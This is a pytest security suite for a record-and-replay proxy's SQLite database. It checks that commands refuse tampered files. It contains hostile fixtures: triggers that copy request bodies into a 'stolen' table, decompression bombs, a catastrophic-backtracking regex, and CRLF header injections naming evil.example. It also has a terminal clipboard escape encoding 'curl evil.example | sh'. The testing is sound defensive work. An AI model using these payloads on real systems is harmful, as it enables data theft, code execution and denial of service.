"""A vcr.db from elsewhere is data: a real recording made by the proxy, then edited with sqlite3 as an attacker
who sends the file through git would (planted triggers and views, decompression bombs), and every command that
reads it must refuse in one line or stay within bounds, never run the planted code, hang or take gigabytes."""

from __future__ import annotations

import dataclasses
import gzip
import json
import multiprocessing
import os
import random
import re
import signal
import sqlite3
import string
import subprocess
import sys
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
import zstandard
from claude_vcr.catalog import Catalog, live_chunk_ids
from claude_vcr.compression import BODY_CEILING, InflateLimit, decode_json, decompressor, inflate
from claude_vcr.describe import EVENTS_SHOWN, EVENTS_TAIL
from claude_vcr.errors import DatabaseError
from claude_vcr.interchange.mitm import ContentDecodingError, decode_content
from claude_vcr.lint import lint_detail
from claude_vcr.proxy import offload
from claude_vcr.records import FrameOverrun
from claude_vcr.render import BLOCK_CHARS_SHOWN
from claude_vcr.ui.pages import EVENTS_PAGE, h, recording_page

from tests.support import REPO, hostile
from tests.support.cassettes import recording, save_all
from tests.support.client import body, call, params
from tests.support.fixtures_ui import viewing
from tests.test_ui import fetch


@pytest.fixture
def real_db(proxy, db_path: Path) -> Path:
    """Two exchanges recorded by the real proxy (one JSON, one stream) with an API key in the prompt."""
    recorder = proxy(mode="record")
    call(recorder.url + "/c/basic", **params("Hi there"))
    call(recorder.url + "/c/basic", **params("Tell me a story", model="claude-haiku-4-5", stream=True))
    recorder.stop()
    return db_path


def _one_line_refusal(result, *expected: str) -> None:
    assert result.returncode == 1, (result.stdout, result.stderr)
    assert "Traceback" not in result.stderr and len(result.stderr.strip().splitlines()) == 1, result.stderr
    for text in expected:
        assert text in result.stderr, result.stderr


def _key(db: Path) -> str:
    with Catalog.open(db) as catalog:
        return next(r.key for r in catalog.recordings("basic"))


@pytest.mark.parametrize(
    "command", [["scan"], ["redact", "--yes"], ["compact"], ["list"], ["cassettes"], ["dump"]]
)
def test_a_planted_trigger_is_refused_by_every_command_and_never_runs(real_db, command):
    hostile.plant_body_thief(real_db)
    before = real_db.read_bytes()
    args = [*command, real_db] if command == ["dump"] else [*command, "--db", real_db]
    _one_line_refusal(hostile.run(*args), "trigger steal", "table stolen", "refused")
    assert real_db.read_bytes() == before
    conn = sqlite3.connect(real_db)
    assert conn.execute("SELECT count(*) FROM stolen").fetchone()[0] == 0
    conn.close()


def test_a_trigger_with_one_of_our_names_but_other_sql_is_refused(real_db):
    hostile.execute(
        real_db,
        "DROP TRIGGER recording_totals_update",
        "CREATE TABLE stolen (body BLOB)",
        "CREATE TRIGGER recording_totals_update AFTER UPDATE ON recordings BEGIN "
        "INSERT INTO stolen VALUES (OLD.request_body); END",
    )
    _one_line_refusal(hostile.run("scan", "--db", real_db), "trigger recording_totals_update")


@pytest.mark.parametrize("command", [["dump"], ["cassettes"], ["list"], ["scan"], ["stats"]])
def test_a_planted_recursive_view_does_not_hang_anything(real_db, command):
    hostile.plant_recursive_view(real_db)
    args = [*command, real_db] if command == ["dump"] else [*command, "--db", real_db]
    _one_line_refusal(hostile.run(*args, timeout=60), "view recording_totals")


def test_a_db_with_only_our_schema_still_opens_and_compacts(real_db):
    assert hostile.run("compact", "--db", real_db).returncode == 0
    conn = sqlite3.connect(real_db)
    kinds = sorted(conn.execute("SELECT type, name FROM sqlite_master WHERE name NOT LIKE 'sqlite_%'"))
    conn.close()
    assert ("trigger", "recording_totals_insert") in kinds and not [k for k in kinds if k[0] == "view"]
    assert hostile.run("scan", "--db", real_db).returncode == 0


# --- bombs -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("declared", [True, False], ids=["size-in-header", "streamed-frame"])
def test_inflate_refuses_past_its_limit_without_allocating_it(declared):
    frame = hostile.bomb_frame(64 * 1024 * 1024, declared=declared)
    assert len(frame) < 64 * 1024
    with pytest.raises(InflateLimit, match="past its limit of 1,000,000"):
        inflate(zstandard.ZstdDecompressor(), frame, 1_000_000)
    assert len(inflate(zstandard.ZstdDecompressor(), frame, 64 * 1024 * 1024)) == 64 * 1024 * 1024


def test_no_limit_is_above_the_hard_ceiling():
    frame = hostile.bomb_frame(BODY_CEILING + 1024 * 1024, declared=True)
    with pytest.raises(InflateLimit):
        inflate(zstandard.ZstdDecompressor(), frame, 10 * BODY_CEILING)


def test_a_metadata_json_bomb_is_refused():
    frame = zstandard.ZstdCompressor().compress(b"[" + b"0," * (20 * 1024 * 1024) + b"0]")
    with pytest.raises(InflateLimit):
        decode_json(frame, zstandard.ZstdDecompressor(), limit=1024 * 1024)


@pytest.mark.parametrize("declared", [True, False], ids=["size-in-header", "streamed-frame"])
@pytest.mark.parametrize("command", ["show", "scan", "export"])
def test_a_4_gib_response_bomb_is_one_line_for_show_scan_and_export(real_db, tmp_path, command, declared):
    hostile.plant_response_bomb(real_db, hostile.bomb_frame(4 * hostile.GIB, declared=declared))
    args = {
        "show": ["show", _key(real_db), "--db", real_db],
        "scan": ["scan", "--db", real_db],
        "export": ["export", tmp_path / "out", "--db", real_db],
    }[command]
    result = hostile.run(*args)
    _one_line_refusal(result, "past its limit", "a damaged db, or one made to exhaust memory")


# --- stored paths, names and text ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "template", ["@127.0.0.1:{port}/v1/messages", "//127.0.0.1:{port}/v1/messages", "/v1/messages\r\nHost: x"]
)
def test_verify_never_sends_the_key_where_a_stored_path_points(real_db, upstream, template):
    canary = hostile.Canary()
    try:
        hostile.execute(
            real_db, "UPDATE recordings SET path = ?", params=(template.format(port=canary.port),)
        )
        result = hostile.run(
            "verify",
            "--target",
            upstream.url,
            "--db",
            real_db,
            "--timeout",
            "5",
        )
    finally:
        canary.close()
    assert canary.connections == 0
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert result.stdout.count("not sent: stored path") == 2, result.stdout
    assert "\r" not in result.stdout


def test_export_refuses_a_cassette_name_with_a_trailing_newline(real_db, tmp_path):
    hostile.execute(real_db, "UPDATE cassettes SET name = 'base' || char(10)")
    out = tmp_path / "out"
    result = hostile.run("export", out, "--db", real_db)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert not any("\n" in p.name for p in tmp_path.rglob("*"))


OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
HIDDEN = "\x1b[8m hidden \x1b[0m\r\u202e"


@pytest.mark.parametrize("command", ["list", "dump", "show", "cassettes-json"])
def test_control_characters_from_a_db_never_reach_the_terminal(real_db, command):
    hostile.execute(
        real_db, "UPDATE recordings SET model = ?1, path = '/v1/messages' || ?1", params=(OSC52 + HIDDEN,)
    )
    args = {
        "list": ["list", "--db", real_db],
        "dump": ["dump", real_db],
        "show": ["show", _key(real_db), "--db", real_db],
        "cassettes-json": ["list", "--json", "--db", real_db],
    }[command]
    result = hostile.run(*args)
    assert result.returncode == 0, result.stderr
    for character in "\x1b\x07\r\u202e":
        assert character not in result.stdout
    assert "\\u001b]52;c;" in result.stdout


# --- files from elsewhere: a .mitm dump ----------------------------------------------------------------------


@pytest.mark.parametrize("coding", ["zstd", "gzip", "deflate"])
def test_a_mitm_bomb_is_skipped_as_undecodable_not_imported(tmp_path, db_path, coding):
    dump = tmp_path / "bomb.mitm"
    size = hostile.bomb_mitm_dump(dump, coding, hostile.GIB if coding == "zstd" else 256 * 1024 * 1024)
    assert size < 1024 * 1024
    result = hostile.run("import", dump, "--db", db_path)
    assert result.returncode == 0 and "Traceback" not in result.stderr, result.stderr
    assert "body not decodable" in result.stdout + result.stderr
    conn = sqlite3.connect(db_path)
    assert conn.execute("SELECT count(*), max(response_size) FROM recordings").fetchone() == (1, 14)
    conn.close()


def test_decode_content_is_bounded_for_every_coding():
    brotli = pytest.importorskip("brotli")
    big = bytes(4 * 1024 * 1024)
    encodings = {
        "br": brotli.compress(big),
        "zstd": zstandard.ZstdCompressor().compress(big),
        "gzip": gzip.compress(big) + gzip.compress(b"second member"),
    }
    for coding, data in encodings.items():
        whole = big + (b"second member" if coding == "gzip" else b"")
        assert decode_content([("content-encoding", coding)], data) == whole
        with pytest.raises(ContentDecodingError, match="inflates past 1,000,000 bytes"):
            decode_content([("content-encoding", coding)], data, limit=1_000_000)


# --- long valid streams: linear folds, paged pages ------------------------------------------------------------


def test_the_ui_pages_a_long_stream_and_folds_all_of_it(real_db):
    hostile.plant_long_stream(real_db, 3000)
    with Catalog.open(real_db) as catalog:
        detail = catalog.detail(next(r for r in catalog.recordings("basic") if r.stream).id)
    first = recording_page(detail, lint_detail(detail))
    assert "word " * 3000 in first  # the folded text is whole
    assert f"events 0–{EVENTS_PAGE - 1:,} of 3,005" in first and 'id="event-499"' in first
    assert 'id="event-500"' not in first and f"?events={EVENTS_PAGE}#events" in first
    last = recording_page(detail, lint_detail(detail), 2900)
    assert 'id="event-3004"' in last and 'id="event-2899"' not in last and 'rel="next"' not in last
    assert len(first) < 400_000


def test_show_of_a_long_stream_is_bounded_and_lint_reads_all_of_it(real_db):
    deltas = 50_000
    hostile.plant_long_stream(real_db, deltas)
    events = hostile.long_stream(deltas).count(b"\n\n")
    with Catalog.open(real_db) as catalog:
        key = next(r.key for r in catalog.recordings("basic") if r.stream)
    shown = hostile.run("show", key[:12], "--db", real_db)
    assert shown.returncode == 0 and "Traceback" not in shown.stderr
    hidden = events - EVENTS_SHOWN - EVENTS_TAIL
    assert f"events ({events:,}):" in shown.stdout and f"... {hidden:,} events not shown" in shown.stdout
    assert shown.stdout.count("content_block_delta") == EVENTS_SHOWN + EVENTS_TAIL - 5  # 3 before, 2 after
    assert f"{events - 1:>3} message_stop" in shown.stdout
    text = "word " * deltas
    assert f"{len(text) - BLOCK_CHARS_SHOWN:,} more characters" in shown.stdout
    assert len(shown.stdout) < BLOCK_CHARS_SHOWN + 100_000 and len(shown.stdout.splitlines()) < 500
    whole = hostile.run("show", key[:12], "--db", real_db, "--json")
    assert json.loads(whole.stdout)["response"]["blocks"][0]["text"] == text  # --json keeps the text whole
    linted = hostile.run("lint", "--db", real_db)
    assert linted.returncode == 0, linted.stdout + linted.stderr


def test_lint_still_finds_faults_deep_in_a_long_stream(real_db):
    """Linting event by event loses nothing: a fault in its first and in its last delta is reported at each."""
    deltas = 30_000
    hostile.plant_long_stream(real_db, deltas)
    with Catalog.open(real_db) as catalog:
        detail = catalog.detail(next(r for r in catalog.recordings("basic") if r.stream).id)
    body = detail.response_body.replace(b'"index":0,"delta"', b'"index":7,"delta"', 1)
    late = body.rfind(b'"index":0,"delta"')
    body = body[:late] + b'"index":9,"delta"' + body[late + len(b'"index":0,"delta"') :]
    findings = lint_detail(dataclasses.replace(detail, response_body=body))
    first, last = 2, deltas + 1  # message_start and content_block_start come before the first delta
    assert {f.index for f in findings if f.severity == "error"} >= {first, last}, findings


# --- deleting leaves no copy -----------------------------------------------------------------------------------


def _chunked_secret_db(db: Path) -> str:
    """A recording whose request (over 4 KB, so stored as chunks) holds a key, and one other recording."""
    noise = random.Random(23)
    secret = (
        "sk-" + "ant-api03-" + "".join(noise.choice(string.ascii_letters + string.digits) for _ in range(90))
    )
    body = json.dumps(
        {
            "model": "claude-haiku-4-5",
            "messages": [{"role": "user", "content": "x" * 6000 + f" key {secret} " + "y" * 6000}],
        }
    ).encode()
    save_all(
        db,
        [
            dataclasses.replace(recording(1, cassette="gone"), request_body=body),
            recording(2, cassette="kept"),
        ],
    )
    return secret


def _orphan_chunks(db: Path) -> int:
    conn = sqlite3.connect(db)
    try:
        live = live_chunk_ids(conn)
        return sum(1 for (identifier,) in conn.execute("SELECT id FROM chunks") if identifier not in live)
    finally:
        conn.close()


@pytest.mark.parametrize("how", ["delete", "clear"])
def test_delete_and_clear_leave_no_copy_of_a_chunked_request(db_path, how):
    secret = _chunked_secret_db(db_path)
    conn = sqlite3.connect(db_path)
    inflate_chunk = decompressor().decompress  # chunks are written with the shipped dictionary
    holding = [
        data for (data,) in conn.execute("SELECT data FROM chunks") if secret.encode() in inflate_chunk(data)
    ]
    conn.close()
    assert len(holding) == 1 and holding[0] in db_path.read_bytes()  # the compressed chunk, as stored
    with Catalog.open(db_path) as catalog:
        key = next(r.key for r in catalog.recordings("gone"))
    args = (
        ["delete", key[:12], "--db", db_path]
        if how == "delete"
        else ["clear", "gone", "--yes", "--db", db_path]
    )
    result = hostile.run(*args)
    assert result.returncode == 0, result.stderr
    assert _orphan_chunks(db_path) == 0
    assert holding[0] not in db_path.read_bytes()  # neither a row nor a freed page keeps it
    assert "kept" in hostile.run("cassettes", "--db", db_path).stdout


def test_scan_reads_unused_chunks_and_redact_drops_them(db_path):
    secret = _chunked_secret_db(db_path)
    hostile.execute(
        db_path, "DELETE FROM recordings WHERE cassette_id = (SELECT id FROM cassettes WHERE name = 'gone')"
    )
    assert _orphan_chunks(db_path) > 0  # as an older version's delete left them
    scanned = hostile.run("scan", "--db", db_path)
    assert "unused chunk" in scanned.stdout and "anthropic-key" in scanned.stdout, scanned.stdout
    assert secret not in scanned.stdout
    assert hostile.run("redact", "--yes", "--db", db_path).returncode == 0
    assert _orphan_chunks(db_path) == 0
    assert "No credential-shaped strings found" in hostile.run("scan", "--db", db_path).stdout


def test_a_fingerprints_bomb_is_refused_at_a_megabyte_in_one_line(real_db):
    hostile.execute(
        real_db,
        "UPDATE recordings SET fingerprints = ?",
        params=(hostile.bomb_frame(hostile.GIB, declared=False),),
    )
    with Catalog.open(real_db) as catalog:
        with pytest.raises(DatabaseError, match="past its limit of 1,048,576") as raised:
            catalog.candidates("basic", "POST", "/v1/messages")
    assert "\n" not in str(raised.value) and str(real_db) in str(raised.value)


def test_a_key_in_a_stored_path_or_query_name_is_scanned_and_redacted(real_db):
    secret = "sk-" + "ant-api03-" + "".join(random.Random(5).choice(string.ascii_letters) for _ in range(60))
    hostile.execute(
        real_db,
        "UPDATE recordings SET path = ? WHERE stream = 0",
        params=(f"/v1/{secret}/messages?beta=true",),
    )
    hostile.execute(
        real_db, "UPDATE recordings SET path = ? WHERE stream = 1", params=(f"/v1/messages?{secret}=1",)
    )
    scanned = hostile.run("scan", "--db", real_db)
    assert "credential-in-path" in scanned.stdout and "credential-parameter" in scanned.stdout, scanned.stdout
    assert secret not in scanned.stdout
    assert hostile.run("redact", "--yes", "--db", real_db).returncode == 0
    listed = hostile.run("list", "--db", real_db).stdout
    assert secret not in listed and "REDACTED:anthropic-key:" in listed
    assert "No credential-shaped strings found" in hostile.run("scan", "--db", real_db).stdout


# --- stored statuses and headers are checked where they are read -----------------------------------------------


@pytest.mark.parametrize(
    ("statement", "expected"),
    [
        ("UPDATE recordings SET status = '200 OK\r\nLocation: http://evil.example/'", "stored status"),
        ("UPDATE recordings SET status = 99999", "stored status"),
        (
            "UPDATE recordings SET response_headers = "
            '\'[["content-type","application/json"],["x-a","1\\r\\nSet-Cookie: s=1"]]\'',
            "stored header",
        ),
        ('UPDATE recordings SET response_headers = \'[["bad name","1"]]\'', "stored header"),
        ('UPDATE recordings SET request_headers = \'{"not": "pairs"}\'', "stored headers"),
    ],
    ids=["text-status", "huge-status", "crlf-header", "bad-header-name", "headers-not-pairs"],
)
def test_a_stored_status_or_header_http_forbids_is_one_line(real_db, statement, expected):
    key = _key(real_db)
    hostile.execute(real_db, statement)
    result = hostile.run("show", key[:12], "--db", real_db)
    _one_line_refusal(result, expected, "refused", str(real_db))
    with Catalog.open(real_db) as catalog:
        with pytest.raises(DatabaseError, match=expected):
            catalog.detail(catalog.resolve(key[:12]))


def test_a_row_claiming_a_body_past_the_ceiling_is_never_inflated(real_db):
    hostile.execute(real_db, "UPDATE recordings SET response_size = ?", params=(4 * hostile.GIB,))
    _one_line_refusal(
        hostile.run("show", _key(real_db)[:12], "--db", real_db), "recorded size of 4,294,967,296"
    )


def test_a_frame_longer_than_its_row_stops_replay_at_the_recorded_size(real_db):
    with Catalog.open(real_db) as catalog:
        row = next(r for r in catalog.recordings("basic") if r.stream)
        detail = catalog.detail(row)
    detail.response_frame = zstandard.ZstdCompressor(write_content_size=False).compress(
        bytes(10 * 1024 * 1024)
    )
    detail.response_length = 5 * 1024 * 1024
    reader = detail.response_reader()
    assert len(reader.read(4 * 1024 * 1024)) == 4 * 1024 * 1024
    with pytest.raises(FrameOverrun):
        while reader.read(1024 * 1024):
            pass


BACKTRACKING = {"replace": [{"pattern": "(a|aa)*$", "with": "<A>"}]}
"""Stored rules whose pattern the load-time shape check lets through and that backtrack for years on 'aaa...a!'."""


def test_commands_stop_a_backtracking_stored_regex_at_its_deadline(proxy, db_path, tmp_path):
    """rekey and explain apply a cassette's stored rules in their own process: past the 10 s deadline
    each says so in one line naming the pattern and changes nothing (no Ctrl-C needed, so a CI job with no one
    at the keyboard does not hang until its own timeout)."""
    text = "a" * 60 + "!"
    recorder = proxy(mode="record")
    call(recorder.url + "/c/slow", **params(text))
    recorder.stop()
    hostile.execute(db_path, "UPDATE cassettes SET rules_json = ?", params=(json.dumps(BACKTRACKING),))
    request = tmp_path / "request.json"
    request.write_text(json.dumps(params(text)))
    before = db_path.read_bytes()
    commands = [
        ["rekey", "--db", db_path],
        ["explain", request, "--cassette", "slow", "--db", db_path],
    ]
    with ThreadPoolExecutor(len(commands)) as pool:  # each waits out its deadline: side by side
        results = list(pool.map(lambda args: hostile.run(*args, timeout=60), commands))
    for result in results:
        _one_line_refusal(result, "'(a|aa)*$'", "took over 10 s, so it was stopped")
    assert db_path.read_bytes() == before


def test_show_and_lint_of_a_long_stream_take_memory_independent_of_its_length(real_db, tmp_path):
    """A stored stream past 4 MB is decompressed a piece at a time and its events read as they come: 36 MB
    more of stream costs show, `show --raw` and lint next to nothing (whole, it cost about its own size)."""
    peaks: dict[str, list[float]] = {}
    raws = []
    for deltas in (40_000, 360_000):  # 4.6 MB and 41 MB
        db = tmp_path / f"{deltas}.db"
        db.write_bytes(real_db.read_bytes())
        hostile.plant_long_stream(db, deltas)
        with Catalog.open(db) as catalog:
            key = next(r.key for r in catalog.recordings("basic") if r.stream)[:12]
        for name, args in (("show", ["show", key]), ("raw", ["show", key, "--raw"]), ("lint", ["lint"])):
            done, peak = hostile.peak_mb(*args, "--db", db)
            assert done.returncode == 0, done.stderr[-2000:]
            peaks.setdefault(name, []).append(peak)
            if name == "raw":
                raws.append(done.stdout == hostile.long_stream(deltas))
    assert raws == [True, True]  # the exact bytes, read a piece at a time
    for name, (small, large) in peaks.items():
        assert large - small < 15, (name, peaks)  # the stream grew by 36 MB


def test_a_long_stream_frame_that_inflates_past_its_row_is_one_line(real_db):
    """Read a piece at a time, a frame inflating past its row's recorded size still stops there, in one line."""
    hostile.plant_response_bomb(
        real_db, hostile.bomb_frame(hostile.GIB, declared=False), stated_size=10 * 2**20
    )
    with Catalog.open(real_db) as catalog:
        key = next(r.key for r in catalog.recordings("basic") if r.stream)[:12]
    for args in (["show", key], ["show", key, "--raw"], ["show", key, "--json"], ["lint"]):
        done, peak = hostile.peak_mb(*args, "--db", real_db)
        stderr = done.stderr.decode()
        assert done.returncode == 1 and "Traceback" not in stderr, stderr[-2000:]
        assert "inflates past its recorded size" in stderr and peak < 100, (args, peak)


def _backtracking_misses(proxy, db_path: Path, folder: Path) -> None:
    """Cassettes `slow` (stored rules that backtrack on 'aaa...a!') and `other` (a harmless regex of its own),
    a recording in each, and a saved miss of each (`slow`'s on that text) in `folder`."""
    recorder = proxy(mode="record")
    for cassette in ("slow", "other"):
        call(recorder.url + f"/c/{cassette}", **params("Hello"))
    recorder.stop()
    dates = {"replace": [{"pattern": r"\d{4}-\d{2}-\d{2}", "with": "<DATE>"}]}
    for cassette, rules in (("slow", BACKTRACKING), ("other", dates)):
        hostile.execute(
            db_path, "UPDATE cassettes SET rules_json = ? WHERE name = ?", params=(json.dumps(rules), cassette)
        )
    folder.mkdir()
    for cassette, text in (("slow", "a" * 60 + "!"), ("other", "Hello on 2026-12-08")):
        saved = {"method": "POST", "path": "/v1/messages", "cassette": cassette, "body": body(text)}
        (folder / f"{cassette}.json").write_text(json.dumps(saved))


def test_the_ui_stops_a_backtracking_stored_regex_at_its_deadline(proxy, db_path, tmp_path, loop_thread, monkeypatch):
    """The misses page applies each cassette's stored rules to a saved miss: regular expressions of the db's
    own run in a worker process with the deadline, never on the reading thread (where `re` would hang the
    viewer, Ctrl-C included). Past it the page says so in one line; other pages are served meanwhile."""
    monkeypatch.setattr(offload, "RULES_SECONDS", 2.0)
    _backtracking_misses(proxy, db_path, tmp_path / "misses")
    with viewing(loop_thread, db_path, tmp_path / "misses") as url:
        answers: list = []
        started = time.perf_counter()
        slow = threading.Thread(target=lambda: answers.append((fetch(url + "misses"), time.perf_counter())))
        slow.start()
        waits = []
        while slow.is_alive() and time.perf_counter() - started < 30:
            before = time.perf_counter()
            assert fetch(url + "c/other")[0] == 200
            waits.append(time.perf_counter() - before)
            time.sleep(0.05)
        slow.join(30)
        (((status, _, page), done),) = answers
        took = done - started
        assert status == 200 and "Traceback" not in page
        line = h("cassette 'slow': its stored rules were stopped, so this miss is not explained:")
        assert page.count(line) == 1 and h("'(a|aa)*$'") in page and "'(a|aa)*$'" not in page  # escaped
        assert "took over 2 s, so it was stopped" in page
        assert page.count("closest recordings") == 1 and h("<DATE>") in page  # `other` explained, its rule applied
        assert 2.0 < took < 2.0 + 8  # the deadline, plus starting two workers on a busy machine
        assert len(waits) > 5 and max(waits) < 1.0  # another page answered all along
        before = time.perf_counter()
        status, _, again = fetch(url + "misses")  # not run again by this viewer: one deadline, not one per load
        assert status == 200 and again.count(line) == 1 and time.perf_counter() - before < 1.0
    assert multiprocessing.active_children() == []  # the workers stopped with the viewer


@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGINT])
def test_the_ui_stops_on_a_signal_while_a_stored_regex_backtracks(proxy, db_path, tmp_path, signum):
    """A real `claude-vcr ui` process building the misses page while a stored pattern backtracks (the 10 s
    deadline not yet reached) stops at once on SIGTERM or Ctrl-C, and its worker process with it."""
    _backtracking_misses(proxy, db_path, tmp_path / "misses")
    ui = subprocess.Popen(
        [sys.executable, "-m", "claude_vcr", "ui", "--db", db_path, "--misses", tmp_path / "misses", "--port", "0"],
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        env={**os.environ, "PYTHONPATH": str(REPO)},
    )
    try:
        url = re.search(r"on (http://\S+)", ui.stdout.readline()).group(1)
        threading.Thread(target=fetch, args=(url + "misses",), daemon=True).start()
        workers: set[int] = set()
        deadline = time.monotonic() + 8
        while time.monotonic() < deadline:  # both workers up (not the resource tracker): `slow`'s in its regex
            workers |= {pid for pid in _children(ui.pid) if b"spawn_main" in _cmdline(pid)}
            if len(workers) >= 2:
                break
            time.sleep(0.1)
        time.sleep(1.0)
        assert len(workers) >= 2 and ui.poll() is None
        stopping = time.monotonic()
        ui.send_signal(signum)
        output, _ = ui.communicate(timeout=30)
        assert time.monotonic() - stopping < 5  # not the rest of the deadline, let alone the regex's years
    finally:
        if ui.poll() is None:
            ui.kill()
            ui.wait()
    assert ui.returncode == 0 and "Traceback" not in output, output
    assert not [pid for pid in workers if Path(f"/proc/{pid}").exists()]  # killed and waited for


def _cmdline(pid: int) -> bytes:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:
        return b""


def _children(pid: int) -> set[int]:
    """The processes `pid` started (Linux)."""
    found: set[int] = set()
    for task in Path(f"/proc/{pid}/task").iterdir():
        found |= {int(child) for child in (task / "children").read_text().split()}
    return found
